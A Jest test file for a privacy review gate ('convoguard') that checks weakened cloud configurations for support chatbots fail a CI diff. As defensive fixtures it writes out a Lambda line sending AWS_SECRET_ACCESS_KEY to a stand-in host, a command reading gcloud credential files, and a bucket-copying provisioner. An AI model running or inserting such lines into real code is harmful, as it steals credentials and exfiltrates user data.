/**
 * The review gate is deny-by-default on the whole deployed output: each head below weakens protection in a way the
 * posture readers alone did not see (issue 24's classes), and each fails `convoguard diff --fail-on-weaken` with the
 * change named; identical syntheses and the neutral allowlist pass.
 */
import * as fs from 'fs';
import * as path from 'path';
import { readSynthesis, runGate } from '../../lib/report/gate';
import type { GateResult } from '../../lib/report/gate';
import { editedExample, exampleSynthesis, resealCdkOut, runCli } from '../helpers';

const TF = 'cdktf.out/stacks/support-assistant-gcp-acme-cx-prod-us-central1/cdk.tf.json';
const CFN = 'cdk.out/support-assistant-aws-us-east-1.template.json';
const ASSETS = 'cdk.out/support-assistant-aws-us-east-1.assets.json';
const KEY = 'billingKey885896F5';
const TFKEY = 'support_Key_DDD94B71';
const BUCKET = 'support_AudioBucket_E2BF7743';
type Json = Record<string, any>;

let base: string;
let baseSynthesis: ReturnType<typeof readSynthesis>;
beforeAll(() => {
  base = exampleSynthesis();
  baseSynthesis = readSynthesis(base);
});

/** A copy of the base synthesis with one file edited as JSON (or as text, below). */
const head = (file: string, edit: (doc: Json) => void): string => editedExample(file, edit);
function textHead(file: string, edit: (text: string) => string): string {
  const to = exampleSynthesis();
  const p = path.join(to, file);
  const before = fs.readFileSync(p, 'utf8');
  const after = edit(before);
  if (after === before) throw new Error(`the edit of ${file} changed nothing`);
  fs.writeFileSync(p, after);
  return to;
}
const gate = (dir: string): GateResult => runGate(baseSynthesis, readSynthesis(dir));
/** What fails the gate, one line each. */
const failing = (r: GateResult) => [
  ...r.posture.filter((c) => c.class === 'weakening').map((c) => `posture ${c.agent} ${c.resource}: ${c.message}`),
  ...r.output
    .filter((c) => c.class === 'weakening' || (c.class === 'unverified' && !c.acknowledged))
    .map((c) => `${c.class} ${c.resource} ${c.path}: ${c.why}`),
];
const res = (t: Json) => t.Resources as Record<string, Json>;
const keyDeny = (t: Json): Json => res(t)[KEY].Properties.KeyPolicy.Statement.find((s: Json) => s.Effect === 'Deny');
const ofType = (t: Json, type: string) => Object.values(res(t)).filter((r) => r.Type === type);

describe('identical and neutral heads pass', () => {
  test('a copy of the base: nothing changes', () => {
    const r = gate(exampleSynthesis());
    expect(r.passes).toBe(true);
    expect(r.output).toEqual([]);
    expect(r.posture).toEqual([]);
  });

  test('descriptions, tags, labels and construct metadata are neutral', () => {
    const to = exampleSynthesis();
    const edit = (file: string, f: (d: Json) => void) => {
      const p = path.join(to, file);
      const d = JSON.parse(fs.readFileSync(p, 'utf8'));
      f(d);
      fs.writeFileSync(p, JSON.stringify(d));
      if (file === CFN) resealCdkOut(to);
    };
    edit(CFN, (t) => {
      res(t)[KEY].Properties.Description = 'another description';
      res(t)[KEY].Properties.Tags.push({ Key: 'team', Value: 'payments' });
      res(t)[KEY].Metadata['aws:cdk:path'] = 'moved/Key/Resource';
    });
    edit(TF, (d) => {
      d.resource.google_storage_bucket[BUCKET].labels.team = 'support';
      d.resource.google_kms_crypto_key[TFKEY]['//'].metadata.path = 'elsewhere';
    });
    const r = gate(to);
    expect(failing(r)).toEqual([]);
    expect(r.passes).toBe(true);
    expect(r.output.map((c) => [c.class, c.resource, c.path])).toEqual(
      expect.arrayContaining([
        ['neutral', KEY, 'Properties.Description'],
        ['neutral', KEY, 'Properties.Tags'],
        ['neutral', `google_storage_bucket.${BUCKET}`, 'labels'],
      ]),
    );
  });

  test('a lower retention and a new masked identifier are strengthening', () => {
    const h = head(CFN, (t) => {
      res(t).billingConversationLogs48438003.Properties.RetentionInDays = 1;
      res(t).billingKey885896F5.Properties.RotationPeriodInDays = 30;
    });
    const r = gate(h);
    expect(failing(r)).toEqual([]);
    expect(r.output.filter((c) => c.class === 'strengthening').map((c) => c.path)).toEqual([
      'Properties.RotationPeriodInDays',
    ]);
  });
});

/** Each head weakens protection; the gate must fail it and name what changed. */
const weakened: Array<[string, () => string, RegExp]> = [
  // What the posture readers do not model.
  [
    'an AWS::IAM::RolePolicy granting logs:Unmask and kms:Decrypt',
    () =>
      head(
        CFN,
        (t) =>
          (res(t).Extra = {
            Type: 'AWS::IAM::RolePolicy',
            Properties: {
              PolicyName: 'x',
              RoleName: 'Analyst',
              PolicyDocument: {
                Version: '2012-10-17',
                Statement: [{ Effect: 'Allow', Action: ['logs:Unmask', 'kms:Decrypt'], Resource: '*' }],
              },
            },
          }),
      ),
    /weakening Extra Properties.PolicyDocument.Statement\[#0\]: an allow added: Allow logs:unmask, kms:decrypt/,
  ],
  [
    'an AWS::Logs::AccountPolicy subscribing every log group to another account',
    () =>
      head(
        CFN,
        (t) =>
          (res(t).Extra = {
            Type: 'AWS::Logs::AccountPolicy',
            Properties: {
              PolicyName: 'all',
              PolicyType: 'SUBSCRIPTION_FILTER_POLICY',
              PolicyDocument: '{"DestinationArn":"arn:aws:logs:us-east-1:999999999999:destination:d"}',
            },
          }),
      ),
    /unverified Extra : a resource type the gate does not know, added/,
  ],
  [
    'a project-level roles/logging.privateLogViewer',
    () =>
      head(
        TF,
        (d) =>
          (d.resource.google_project_iam_member.Extra = {
            project: 'acme-cx-prod',
            role: 'roles/logging.privateLogViewer',
            member: 'user:contractor@example.com',
          }),
      ),
    /weakening google_project_iam_member.Extra \[roles\/logging.privateLogViewer user:contractor@example.com\]: user:contractor@example.com gets roles\/logging.privateLogViewer on the whole project/,
  ],
  [
    'a log view shared with an outside user',
    () =>
      head(TF, (d) => {
        d.resource.google_logging_log_view = {
          v: { name: 'all', bucket: 'projects/acme-cx-prod/locations/global/buckets/_Default', filter: '' },
        };
        d.resource.google_logging_log_view_iam_member = {
          m: {
            parent: 'x',
            location: 'global',
            bucket: '_Default',
            name: 'all',
            role: 'roles/logging.viewAccessor',
            member: 'user:outsider@example.net',
          },
        };
      }),
    /unverified google_logging_log_view_iam_member.m : a resource type the gate does not know, added/,
  ],
  [
    'a custom role with decrypt permissions, granted',
    () =>
      head(TF, (d) => {
        d.resource.google_project_iam_custom_role = {
          r: {
            role_id: 'decrypter',
            title: 'x',
            permissions: ['cloudkms.cryptoKeyVersions.useToDecrypt'],
            project: 'acme-cx-prod',
          },
        };
        d.resource.google_project_iam_member.m = {
          project: 'acme-cx-prod',
          role: 'projects/acme-cx-prod/roles/decrypter',
          member: 'user:intern@example.com',
        };
      }),
    /weakening google_project_iam_member.m .*a custom role whose permissions are not in this output/,
  ],
  [
    'object ACLs on the audio bucket',
    () =>
      head(
        TF,
        (d) =>
          (d.resource.google_storage_default_object_acl = {
            a: { bucket: `\${google_storage_bucket.${BUCKET}.name}`, role_entity: ['READER:allUsers'] },
          }),
      ),
    /unverified google_storage_default_object_acl.a/,
  ],
  [
    'a public-read canned ACL on the Lex audio bucket',
    () => head(CFN, (t) => (res(t).billingAudioBucketE4EFCAA8.Properties.AccessControl = 'PublicRead')),
    /weakening billingAudioBucketE4EFCAA8 Properties.AccessControl: canned ACL none → PublicRead/,
  ],
  [
    'a Terraform module block',
    () => head(TF, (d) => (d.module = { m: { source: 'git::https://example.com/evil.git' } })),
    /weakening module.m : a module: resources from code this review does not read/,
  ],
  [
    'a local-exec provisioner',
    () =>
      head(
        TF,
        (d) =>
          (d.resource.google_storage_bucket[BUCKET].provisioner = [
            { 'local-exec': { command: 'gsutil cp gs://audio/* gs://elsewhere' } },
          ]),
      ),
    /weakening google_storage_bucket.support_AudioBucket_E2BF7743 provisioner: a provisioner runs a command/,
  ],
  [
    'a data.external program',
    () => head(TF, (d) => (d.data.external = { x: { program: ['sh', '-c', 'cat ~/.config/gcloud/*'] } })),
    /weakening data.external.x : data.external runs a program/,
  ],
  // Conditions and contents.
  [
    "the KMS deny's ArnNotLike exemption widened to every role",
    () => head(CFN, (t) => keyDeny(t).Condition.ArnNotLike['aws:PrincipalArn'].push('arn:aws:iam::*:role/*')),
    /weakening billingKey885896F5 Properties.KeyPolicy.Statement\[Sid=DenyDecryptExceptDecryptersAndServices\]: the deny is narrower: condition ArnNotLike\|aws:principalarn also excludes arn:aws:iam::\*:role\/\*/,
  ],
  [
    "the KMS deny's aws:PrincipalAccount condition set to another account",
    () => head(CFN, (t) => (keyDeny(t).Condition.StringEquals['aws:PrincipalAccount'] = '999999999999')),
    /the deny is narrower: condition StringEquals\|aws:principalaccount no longer matches/,
  ],
  [
    'a custom identifier regex replaced',
    () =>
      head(
        CFN,
        (t) =>
          (res(
            t,
          ).billingConversationLogs48438003.Properties.DataProtectionPolicy.Configuration.CustomDataIdentifier[0].Regex =
            'NEVERMATCHES'),
      ),
    /unverified billingConversationLogs48438003 Properties.DataProtectionPolicy: the pattern of custom identifier \w+ changed/,
  ],
  [
    'a custom infoType regex replaced',
    () =>
      head(
        TF,
        (d) =>
          (Object.values(
            d.resource.google_data_loss_prevention_inspect_template as Json,
          )[0].inspect_config.custom_info_types[0].regex.pattern = 'x^'),
      ),
    /unverified google_data_loss_prevention_inspect_template.\w+ inspect_config.custom_info_types\[ORDER_NUMBER\].regex.pattern: the pattern changed/,
  ],
  [
    'the Bedrock guardrail PII filters emptied',
    () =>
      head(
        CFN,
        (t) =>
          (ofType(t, 'AWS::Bedrock::Guardrail')[0].Properties.SensitiveInformationPolicyConfig.PiiEntitiesConfig = []),
      ),
    /weakening billingGuardrail90F0D14A Properties.SensitiveInformationPolicyConfig.PiiEntitiesConfig\[Type=EMAIL\]: PII entity removed/,
  ],
  [
    'DLP min_likelihood raised',
    () =>
      head(
        TF,
        (d) =>
          (Object.values(
            d.resource.google_data_loss_prevention_inspect_template as Json,
          )[0].inspect_config.min_likelihood = 'VERY_LIKELY'),
      ),
    /inspect_config.min_likelihood: likelihood threshold \(lower finds more\) weaker/,
  ],
  [
    'a DLP exclusion rule matching everything',
    () =>
      head(
        TF,
        (d) =>
          (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.rule_set = [
            {
              info_types: [{ name: 'EMAIL_ADDRESS' }],
              rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }],
            },
          ]),
      ),
    /weakening .*inspect_config.rule_set.*an exclusion rule: what it matches is not redacted/,
  ],
  [
    'DLP max_findings_per_request 1',
    () =>
      head(
        TF,
        (d) =>
          (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.limits = {
            max_findings_per_request: 1,
          }),
      ),
    /inspect_config.limits.max_findings_per_request: findings cap .* down/,
  ],
  [
    'the de-identify template turned reversible',
    () =>
      head(TF, (d) => {
        const t = Object.values(d.resource.google_data_loss_prevention_deidentify_template as Json)[0];
        t.deidentify_config.info_type_transformations.transformations[1].primitive_transformation = {
          crypto_deterministic_config: { crypto_key: { unwrapped: { key: 'x' } } },
        };
      }),
    /weakening .*deidentify_config\[CREDIT_CARD_NUMBER\]: CREDIT_CARD_NUMBER: character_mask_config → crypto_deterministic_config/,
  ],
  [
    'the security settings redaction_scope removed',
    () =>
      head(
        TF,
        (d) => delete Object.values(d.resource.google_dialogflow_cx_security_settings as Json)[0].redaction_scope,
      ),
    /redaction_scope: redaction scope weaker/,
  ],
  [
    "the Macie job's identifier selector set to NONE",
    () =>
      head(CFN, (t) => {
        const job = ofType(t, 'Custom::MacieClassificationJob')[0];
        for (const k of ['Create', 'Update'])
          job.Properties[k]['Fn::Join'][1][0] = job.Properties[k]['Fn::Join'][1][0].replace('"RECOMMENDED"', '"NONE"');
      }),
    /weakening billingVerifyMacieJob\w+ Properties.Create.parameters.managedDataIdentifierSelector: managed identifiers the job uses weaker/,
  ],
  [
    "the DenyUnmask statement's Resource narrowed",
    () =>
      head(
        CFN,
        (t) =>
          (Object.entries(res(t)).find(([k]) =>
            k.startsWith('billingDenyUnmask'),
          )![1].Properties.PolicyDocument.Statement[0].Resource =
            'arn:aws:logs:us-east-1:111122223333:log-group:/nothing'),
      ),
    /weakening billingDenyUnmask\w+ Properties.PolicyDocument.Statement\[.*\]: the deny is narrower: resource/,
  ],
  [
    "a sink's destination moved to an outside Pub/Sub topic",
    () =>
      head(
        TF,
        (d) =>
          (Object.values(d.resource.google_logging_project_sink as Json)[0].destination =
            'pubsub.googleapis.com/projects/elsewhere/topics/t'),
      ),
    /weakening google_logging_project_sink.\w+ destination: routes log entries to pubsub.googleapis.com\/projects\/elsewhere\/topics\/t, a destination this output does not define/,
  ],
  // Decoys.
  [
    'a second alias for the bot, carrying the old settings',
    () =>
      head(CFN, (t) => {
        const alias = res(t).billingBotAliasB192CCBB;
        res(t).DecoyAlias = JSON.parse(JSON.stringify(alias));
        delete alias.Properties.ConversationLogSettings.TextLogSettings[0].Destination.CloudWatch.CloudWatchLogGroupArn;
      }),
    /weakening DecoyAlias : another alias serves the bot/,
  ],
  [
    'a second Dialogflow agent resource for the same agent',
    () =>
      head(TF, (d) => {
        const [name, agent] = Object.entries(d.resource.google_dialogflow_cx_agent as Json)[0];
        d.resource.google_dialogflow_cx_agent[`${name}_decoy`] = JSON.parse(JSON.stringify(agent));
      }),
    /weakening google_dialogflow_cx_agent.\w+_decoy : another Dialogflow agent/,
  ],
  // Deploy artifacts.
  [
    'the asset manifest publishing another file as the template',
    () =>
      head(
        ASSETS,
        (a) =>
          (Object.values(a.files as Json).find((f: Json) =>
            String(f.source.path).endsWith('.template.json'),
          ).source.path = 'evil.json'),
      ),
    /no asset publishes the reviewed support-assistant-aws-us-east-1.template.json/,
  ],
  [
    'the manifest pointing the stack at another published template',
    () =>
      head(
        'cdk.out/manifest.json',
        (m) =>
          (m.artifacts['support-assistant-aws-us-east-1'].properties.stackTemplateAssetObjectUrl =
            's3://elsewhere/0000.json'),
      ),
    /stack support-assistant-aws-us-east-1 deploys the template published at s3:\/\/elsewhere\/0000.json/,
  ],
  [
    "the custom resources' Lambda code changed",
    () => {
      const to = exampleSynthesis();
      const dir = fs.readdirSync(path.join(to, 'cdk.out')).find((f) => f.startsWith('asset.'))!;
      fs.appendFileSync(
        path.join(to, 'cdk.out', dir, 'index.js'),
        '\nrequire("https").get("https://example.net/" + process.env.AWS_SECRET_ACCESS_KEY);\n',
      );
      return to;
    },
    /unverified files.\w+ contentSha256: the asset's contents changed/,
  ],
  // Policy-level detection semantics, read from what the agents read.
  [
    'Rasa 3.13 keeping 12 characters of a card number instead of 4',
    () => textHead('out/rasa/helpdesk/endpoints.yml', (t) => t.replace('keep_right: 4', 'keep_right: 12')),
    /weakening out\/rasa\/helpdesk\/endpoints.yml privacy.rules\[slot=card_number\].anonymization.keep_right: characters kept on the right up/,
  ],
  [
    'a Presidio entity removed from a Rasa 3.12 rule list',
    () =>
      textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')),
    /weakening out\/rasa\/kiosk\/endpoints.yml anonymization.rule_lists\[id=default\].rules\[entity=US_SSN\]: entity removed/,
  ],
  // Kafka topics: Kafka deletes a segment only once its newest event is past retention.ms.
  [
    "a topic's segment roll back to Kafka's 7 days",
    () =>
      head(TF, (d) => {
        const t = d.resource.google_managed_kafka_topic['support_Topics_Topic-kiosk-raw-events_C6C7DD61'];
        delete t.configs['segment.ms'];
      }),
    /weakening google_managed_kafka_topic.support_Topics_Topic-kiosk-raw-events_C6C7DD61 configs\["segment.ms"\]: segment roll \(events outlive retention by up to it\) up/,
  ],
  [
    "the raw topic's Kafka ACL removed: every client of the cluster reads the original events again",
    () => head(TF, (d) => delete d.resource.google_managed_kafka_acl),
    /posture kiosk .*reader added: principals with a Managed Kafka client role[\s\S]*weakening google_managed_kafka_acl.support_Topics_Acl-kiosk-raw-events_\w+ : a Kafka ACL removed/,
  ],
  [
    "a reader added to the raw topic's Kafka ACL",
    () =>
      head(TF, (d) => {
        const acl = Object.values(d.resource.google_managed_kafka_acl as Json)[0] as Json;
        acl.acl_entries.push({ principal: 'User:analytics@acme-cx-prod.iam.gserviceaccount.com', operation: 'READ' });
      }),
    /posture kiosk .*reader added: User:analytics@acme-cx-prod.iam.gserviceaccount.com[\s\S]*unverified google_managed_kafka_acl.[\w-]+ acl_entries: who may read or write/,
  ],
  [
    "Rasa 3.12's original events sent to a topic no stack provisions",
    () =>
      textHead('out/rasa/kiosk/endpoints.yml', (t) =>
        t.replace('  topic: kiosk-raw-events\n', '  topic: rasa_events\n'),
      ),
    /unverified out\/rasa\/kiosk\/endpoints.yml event_broker.topic: every original event now goes to topic rasa_events, which no stack of this synthesis provisions/,
  ],
  [
    "Rasa 3.12's original events sent back to rasa_core_events",
    () => textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace('  topic: kiosk-raw-events\n', '')),
    /posture kiosk .*raw-event-topic[\s\S]*unverified out\/rasa\/kiosk\/endpoints.yml event_broker.topic: every original event now goes to rasa_core_events \(Rasa's default\)/,
  ],
  [
    "Rasa 3.12's original events sent to the anonymized topic, kept 7 days",
    () =>
      textHead('out/rasa/kiosk/endpoints.yml', (t) =>
        t.replace('  topic: kiosk-raw-events\n', '  topic: conversations-anonymized\n'),
      ),
    /posture kiosk .*raw-event-topic "Kafka topic conversations-anonymized \(every original event\)"/,
  ],
  // Protection removed.
  [
    'the AWS stack the base had, gone from the head',
    () => {
      const to = exampleSynthesis();
      fs.rmSync(path.join(to, 'cdk.out'), { recursive: true });
      return to;
    },
    /posture billing .*protection for agent "billing" was removed/,
  ],
  [
    'a Lambda function running an object the synthesis does not publish',
    () => head(CFN, (t) => (ofType(t, 'AWS::Lambda::Function')[0].Properties.Code.S3Key = 'someone-elses-code.zip')),
    /weakening AWS679\w+ Properties.Code.S3Key: the function runs "someone-elses-code.zip", which no asset of this synthesis publishes/,
  ],
  [
    'a stack the synthesis lists whose resources no agent owns',
    () => {
      const to = exampleSynthesis();
      const file = path.join(to, TF);
      const d = JSON.parse(fs.readFileSync(file, 'utf8'));
      for (const byName of Object.values(d.resource as Record<string, Json>))
        for (const r of Object.values(byName)) delete r['//'].convoguard_agent;
      fs.writeFileSync(file, JSON.stringify(d));
      return to;
    },
    /unverified cdktf.out\/stacks\/support-assistant-gcp-acme-cx-prod-us-central1\/cdk.tf.json : no resource of this stack is attributed to an agent or to a project/,
  ],
  [
    'an extra Terraform stack whose resources no agent owns',
    () => {
      const to = exampleSynthesis();
      fs.mkdirSync(path.join(to, 'cdktf.out', 'stacks', 'evil'));
      fs.writeFileSync(
        path.join(to, 'cdktf.out', 'stacks', 'evil', 'cdk.tf.json'),
        JSON.stringify({ resource: { google_storage_bucket: { b: { name: 'copy', location: 'US' } } } }),
      );
      return to;
    },
    /unverified cdktf.out\/stacks\/evil\/cdk.tf.json : a file convoguard does not write/,
  ],
];

describe('every weakened head fails the gate, naming the change', () => {
  test.each(weakened)('%s', (_what, make, expected) => {
    const r = gate(make());
    expect(r.passes).toBe(false);
    expect(failing(r).join('\n')).toMatch(expected);
  });
});

test('two aliases claiming one agent: the posture says which cannot be told apart, and the report finds it', () => {
  const h = head(CFN, (t) => (res(t).DecoyAlias = JSON.parse(JSON.stringify(res(t).billingBotAliasB192CCBB))));
  const r = gate(h);
  expect(r.posture.filter((c) => c.class === 'weakening').map((c) => c.message)).toEqual([
    expect.stringMatching(
      /^cannot verify added: (billingBotAliasB192CCBB|DecoyAlias): 2 resources claim agent "billing" \(billingBotAliasB192CCBB, DecoyAlias\)/,
    ),
  ]);
  expect(
    r.headPosture.findings.filter(
      (f) => f.rule === 'CG-UNVERIFIED' && f.agent === 'billing' && /2 resources claim agent/.test(f.message),
    ).length,
  ).toBeGreaterThan(0);
});

test('policy-level detection semantics are part of the posture: keep, substitution entities, likelihood, exclusions', () => {
  const posture = (h: string) =>
    gate(h)
      .posture.filter((c) => c.class === 'weakening')
      .map((c) => `${c.agent}: ${c.message}`);
  expect(
    posture(textHead('out/rasa/helpdesk/endpoints.yml', (t) => t.replace('keep_right: 4', 'keep_right: 12'))),
  ).toEqual(['helpdesk: slot card_number: redact keeping 4 → redact keeping 12']);
  expect(
    posture(
      textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')),
    ),
  ).toEqual(['kiosk: detector removed: US_SSN', 'kiosk: default: US_SSN: de-identification (mask) removed']);
  const dlp = (f: (c: Json) => void) =>
    head(TF, (d) =>
      f(Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config),
    );
  expect(posture(dlp((c) => (c.min_likelihood = 'LIKELY')))).toEqual([
    'support: likelihood threshold POSSIBLE → LIKELY',
  ]);
  expect(
    posture(
      dlp(
        (c) =>
          (c.rule_set = [
            {
              info_types: [{ name: 'EMAIL_ADDRESS' }],
              rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }],
            },
          ]),
      ),
    ),
  ).toEqual(['support: exclusion rules 0 → 1: what they match is not redacted']);
  expect(posture(dlp((c) => (c.limits = { max_findings_per_item: 1 })))).toEqual(['support: findings cap none → 1']);
});

describe('acknowledgements', () => {
  const unknownResource = (t: Json) =>
    (res(t).Extra = {
      Type: 'AWS::Logs::AccountPolicy',
      Properties: { PolicyName: 'all', PolicyType: 'DATA_PROTECTION_POLICY', PolicyDocument: '{}' },
    });
  test('an acknowledgement in code covers an unverified change and is shown with its reason; a stale one is listed', () => {
    const h = head(CFN, (t) => {
      unknownResource(t);
      res(t).Extra.Metadata = {
        'convoguard:acknowledge': [{ path: '', reason: 'Account-wide data protection policy, approved in PRIV-7.' }],
      };
      res(t)[KEY].Metadata['convoguard:acknowledge'] = [
        { path: 'Properties.EnableKeyRotation', reason: 'Nothing changes here: this acknowledgement is stale.' },
      ];
    });
    const r = gate(h);
    expect(r.passes).toBe(true);
    expect(r.output.find((c) => c.resource === 'Extra')?.acknowledged).toEqual({
      reason: 'Account-wide data protection policy, approved in PRIV-7.',
      by: 'code',
    });
    expect(r.unusedAcknowledgements.map((a) => [a.resource, a.path])).toEqual([[KEY, 'Properties.EnableKeyRotation']]);
  });
  test('an acknowledgement in the policy (review.acknowledge in out/plan.json) covers the change below its path; it never covers a weakening', () => {
    const to = head(CFN, (t) => {
      unknownResource(t);
      res(t).billingConversationLogs48438003.Properties.RetentionInDays = 30;
    });
    const plan = path.join(to, 'out', 'plan.json');
    const p = JSON.parse(fs.readFileSync(plan, 'utf8'));
    p.review = {
      acknowledge: [
        { resource: 'Extra', path: '', reason: 'Account-wide data protection policy, approved in PRIV-7.' },
        {
          resource: 'billingConversationLogs48438003',
          path: 'Properties',
          reason: 'Retention raised for a legal hold.',
        },
      ],
    };
    fs.writeFileSync(plan, JSON.stringify(p));
    const r = gate(to);
    expect(r.output.find((c) => c.resource === 'Extra')?.acknowledged?.by).toBe('policy');
    expect(r.passes).toBe(false);
    expect(failing(r).join('\n')).toMatch(
      /weakening billingConversationLogs48438003 Properties.RetentionInDays: retention up/,
    );
  });
});

describe('the command line', () => {
  test('diff --fail-on-weaken exits 1 on a weakened head, 0 on the base, and the JSON is versioned', async () => {
    const h = head(
      CFN,
      (t) =>
        (res(t).Extra = {
          Type: 'AWS::IAM::RolePolicy',
          Properties: {
            PolicyName: 'x',
            RoleName: 'r',
            PolicyDocument: { Statement: [{ Effect: 'Allow', Action: 'logs:Unmask', Resource: '*' }] },
          },
        }),
    );
    const weak = await runCli(['diff', '--base', base, '--head', h, '--fail-on-weaken']);
    expect(weak.code).toBe(1);
    expect(weak.out).toMatch(
      /^## 🔴 2 changes weaken privacy posture \(\d+ in the posture, \d+ in the deployed output\)\n/,
    );
    expect(weak.out).toContain('an allow added: Allow logs:unmask');
    const same = await runCli([
      'diff',
      '--base',
      base,
      '--head',
      exampleSynthesis(),
      '--fail-on-weaken',
      '--format',
      'json',
    ]);
    expect(same.code).toBe(0);
    expect(JSON.parse(same.out)).toMatchObject({ schemaVersion: 1, passes: true, output: [], posture: [] });
  });

  test.each<[string, (d: string) => void, string]>([
    [
      'a template that is {}',
      (d) => fs.writeFileSync(path.join(d, CFN), '{}'),
      'Resources is nothing; expected a mapping of logical ids to resources',
    ],
    [
      'a resource without Type',
      (d) => fs.writeFileSync(path.join(d, CFN), JSON.stringify({ Resources: { X: { Properties: {} } } })),
      'Resources.X.Type is nothing; expected a resource type',
    ],
  ])('%s exits 2 with the place, never a trace', async (_what, edit, message) => {
    const h = exampleSynthesis();
    edit(h);
    const r = await runCli(['diff', '--base', base, '--head', h, '--fail-on-weaken']);
    expect(r.code).toBe(2);
    expect(r.err).toContain(message);
    expect(r.err).not.toMatch(/\n\s+at /);
  });
});

describe('Cloud Logging filters: the gate reads the two forms convoguard writes', () => {
  const requestLog = 'logName="projects/acme-cx-prod/logs/dialogflow-runtime.googleapis.com%2Frequests"';
  const setFilters = (filter: string) => (t: Json) => {
    for (const type of ['google_logging_project_sink', 'google_logging_project_exclusion'])
      Object.values(t.resource[type] as Json).forEach((r: Json) => (r.filter = filter));
  };
  const filterVerdicts = (r: GateResult) =>
    r.output.filter((c) => c.path.endsWith('filter')).map((c) => `${c.class} ${c.resource.split('.')[0]}: ${c.why}`);

  test('every Dialogflow log narrowed to the request log is a weakening of the sink and of the exclusion', () => {
    const r = gate(head(TF, setFilters(requestLog)));
    expect(r.passes).toBe(false);
    expect(filterVerdicts(r)).toEqual([
      'weakening google_logging_project_exclusion: keeps out of _Default the request log only: telephony and audit logs of Dialogflow stay in _Default',
      'weakening google_logging_project_sink: routes the request log only: telephony and audit logs of Dialogflow stay in _Default',
    ]);
  });

  test('an older synthesis that routed the request log only, upgraded: a strengthening', () => {
    const older = head(TF, setFilters(requestLog));
    const r = runGate(readSynthesis(older), baseSynthesis);
    expect(filterVerdicts(r)).toEqual([
      'strengthening google_logging_project_exclusion: keeps out of _Default every Dialogflow log, not only the request log',
      'strengthening google_logging_project_sink: routes every Dialogflow log, not only the request log',
    ]);
  });

  test('a filter convoguard does not write (narrowed to errors) is unverified, and fails the gate', () => {
    const r = gate(head(TF, setFilters(`${requestLog} AND severity>=ERROR`)));
    expect(r.passes).toBe(false);
    expect(filterVerdicts(r)).toEqual([
      'unverified google_logging_project_exclusion: which log entries the filter keeps out of _Default: not a filter convoguard writes',
      'unverified google_logging_project_sink: which log entries the filter routes: not a filter convoguard writes',
    ]);
  });
});

test("the diff's posture table names a changed store as a reviewer knows it, with its logical id beside it", async () => {
  const h = head(CFN, (t) => (t.Resources.billingConversationLogs48438003.Properties.RetentionInDays = 3653));
  const md = (await runCli(['diff', '--base', base, '--head', h])).out;
  const row = md.split('\n').find((l) => l.startsWith('| weakening | billing |'));
  expect(row).toMatch(
    /^\| weakening \| billing \| logs: \/convoguard\/support-assistant-billing\/lex-conversations `billingConversationLogs48438003` \|/,
  );
});

test('a store the head renames while weakening it is named as the base knew it, with the new name beside it', async () => {
  const h = head(CFN, (t) => {
    const logs = t.Resources.billingConversationLogs48438003.Properties;
    logs.RetentionInDays = 3653;
    logs.LogGroupName = '/convoguard/support-assistant-billing/harmless-metrics';
  });
  const md = (await runCli(['diff', '--base', base, '--head', h])).out;
  const rows = md
    .split('\n')
    .filter((l) => l.startsWith('| weakening | billing |') && l.includes('billingConversationLogs48438003'));
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows)
    expect(row).toMatch(
      /^\| weakening \| billing \| logs: \/convoguard\/support-assistant-billing\/lex-conversations \(now logs: \/convoguard\/support-assistant-billing\/harmless-metrics\) `billingConversationLogs48438003` \|/,
    );
});
